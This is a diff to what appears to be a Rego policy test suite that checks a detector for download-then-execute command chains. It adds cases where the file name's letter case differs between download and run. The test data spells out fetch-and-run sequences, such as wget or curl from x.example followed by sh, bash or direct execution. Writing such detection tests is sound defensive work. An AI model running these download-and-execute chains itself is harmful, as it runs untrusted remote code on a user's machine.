@@ -176,6 +176,11 @@ test_downloaded_files_that_are_run if {
 	cmds([c("wget", ["https://x.example/i.sh"]), c("sh", ["i.sh"])]) == {rce("runs i.sh after downloading it")}
 	cmds([c("curl", ["-o", "x", "https://x.example/y"]), c("chmod", ["+x", "x"]), c("x", [])]) == {rce("runs x after downloading it")}
 	cmds([c("curl", ["-o", "data.json", "https://x.example/y"]), c("python3", ["parse.py", "data.json"])]) == set()
+
+	# a change of case between the download and the run names the same file here
+	cmds([c("curl", ["-o", "Payload", "https://x.example/y"]), c("Payload", [])]) == {rce("runs payload after downloading it")}
+	cmds([c("wget", ["https://x.example/I.SH"]), c("sh", ["i.sh"])]) == {rce("runs i.sh after downloading it")}
+	cmds([c("curl", ["-o", "x", "https://x.example/y"]), c("bash", ["./X"])]) == {rce("runs x after downloading it")}
 }
 
 test_reverse_shells if {
